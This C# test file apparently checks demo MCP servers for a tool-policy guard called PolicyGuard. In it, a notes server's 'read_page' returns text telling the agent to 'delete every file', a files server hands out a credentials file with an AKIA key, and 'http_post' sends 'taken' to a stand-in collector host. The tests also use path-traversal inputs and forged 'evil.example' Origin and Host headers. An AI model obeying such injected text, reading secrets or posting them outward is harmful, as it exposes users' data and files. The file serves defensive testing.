using System.Text;
using PolicyGuard.SystemTests.Npm;

namespace PolicyGuard.SystemTests.Examples;

/// <summary>The demo is only worth something if its servers are real: an official client can use them, and what they say happened did happen.</summary>
public sealed class ExampleServersTests
{
    public static TheoryData<string> Revisions => [.. ExampleServers.Revisions];

    [Theory]
    [MemberData(nameof(Revisions))]
    public async Task Notes_speak_each_revision_over_http(string revision)
    {
        var (process, url) = await ExampleServers.StartNotesAsync();
        await using (process)
        {
            await using var client = await ExampleServers.ConnectAsync(url, revision);
            var tools = await client.ListToolsAsync();
            var page = await client.CallToolAsync("read_page", new Dictionary<string, object?> { ["url"] = "https://wiki.example/release" });

            Assert.Equal(revision, client.NegotiatedProtocolVersion);
            Assert.Equal(["search_notes", "read_page", "http_post"], tools.Select(tool => tool.Name));
            Assert.Contains("delete every file", page.Text(), StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(Revisions))]
    public async Task Files_speak_each_revision_on_stdio(string revision)
    {
        var folder = Directory.CreateTempSubdirectory("policyguard-example-");
        try
        {
            await using var client = await ExampleServers.ConnectAsync(ExampleServers.Files(folder.FullName), revision);
            var tools = (await client.ListToolsAsync()).ToDictionary(tool => tool.Name, tool => tool.ProtocolTool.Annotations!);
            var secret = await client.CallToolAsync("read_file", new Dictionary<string, object?> { ["path"] = "deploy/credentials.env" });
            await client.CallToolAsync("delete_file", new Dictionary<string, object?> { ["path"] = "reports/q3.md" });

            Assert.Equal(revision, client.NegotiatedProtocolVersion);
            Assert.True(tools["read_file"].ReadOnlyHint);
            Assert.True(tools["delete_file"].DestructiveHint);
            Assert.Contains("AKIA", secret.Text(), StringComparison.Ordinal);
            Assert.False(File.Exists(Path.Combine(folder.FullName, "reports", "q3.md")));
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    [Theory]
    [InlineData("../outside.txt")]
    [InlineData("/etc/hostname")]
    [InlineData("reports/../../outside.txt")]
    [InlineData(".")]
    public async Task Files_never_leave_their_folder(string path)
    {
        await using var client = await ExampleServers.ConnectAsync(ExampleServers.Files());
        foreach (var (tool, arguments) in new (string, Dictionary<string, object?>)[]
        {
            ("read_file", new() { ["path"] = path }),
            ("write_file", new() { ["path"] = path, ["text"] = "x" }),
            ("delete_file", new() { ["path"] = path }),
        })
        {
            Assert.True((await client.CallToolAsync(tool, arguments)).IsError);
        }
    }

    [Fact]
    public async Task What_was_posted_can_be_looked_up()
    {
        var (process, url) = await ExampleServers.StartNotesAsync();
        await using (process)
        {
            using var http = new HttpClient();
            Assert.Equal("[]", await http.GetStringAsync(new Uri(url, "/received")));

            await using var client = await ExampleServers.ConnectAsync(url);
            await client.CallToolAsync("http_post", new Dictionary<string, object?> { ["url"] = "https://collector.example/drop", ["body"] = "taken" });
            Assert.Equal("""[{"url":"https://collector.example/drop","body":"taken"}]""", await http.GetStringAsync(new Uri(url, "/received")));
        }
    }

    [Fact]
    public async Task The_end_of_input_ends_the_files_server_and_its_own_folder()
    {
        using var temp = new RealServers.WorkFolder();
        var start = Companion.Command(ExampleServers.Files());
        start.Environment["TMPDIR"] = temp.Path;
        var (code, output, _) = await Companion.RunAsync(start, """{"jsonrpc":"2.0","id":1,"method":"ping"}""" + "\n");

        Assert.Equal(0, code);
        Assert.Equal("""{"jsonrpc":"2.0","id":1,"result":{}}""", output.Trim());
        Assert.Empty(Directory.EnumerateFileSystemEntries(temp.Path, "policyguard-files-*"));
    }

    [Theory]
    [InlineData("{", -32700)]
    [InlineData("[]", -32600)]
    [InlineData("""{"id":1}{""", -32700)]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"no/such"}""", -32601)]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":7}}""", -32602)]
    public async Task What_is_not_a_call_is_an_error_and_not_the_end(string message, int code)
    {
        var (process, url) = await ExampleServers.StartNotesAsync();
        await using (process)
        {
            using var http = new HttpClient();
            var answer = await http.PostAsync(url, new StringContent(message, Encoding.UTF8, "application/json"));
            Assert.Contains($"\"code\":{code}", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            Assert.Equal("[]", await http.GetStringAsync(new Uri(url, "/received")));
        }
    }

    [Fact]
    public async Task A_web_page_cannot_use_the_notes_server()
    {
        var (process, url) = await ExampleServers.StartNotesAsync();
        await using (process)
        {
            using var http = new HttpClient();
            using var foreign = new HttpRequestMessage(HttpMethod.Post, url) { Content = new StringContent("{}") };
            foreign.Headers.Add("Origin", "https://evil.example");
            using var rebound = new HttpRequestMessage(HttpMethod.Post, url) { Content = new StringContent("{}") };
            rebound.Headers.Host = "evil.example";

            Assert.Equal(System.Net.HttpStatusCode.Forbidden, (await http.SendAsync(foreign)).StatusCode);
            Assert.Equal(System.Net.HttpStatusCode.Forbidden, (await http.SendAsync(rebound)).StatusCode);
        }
    }
}
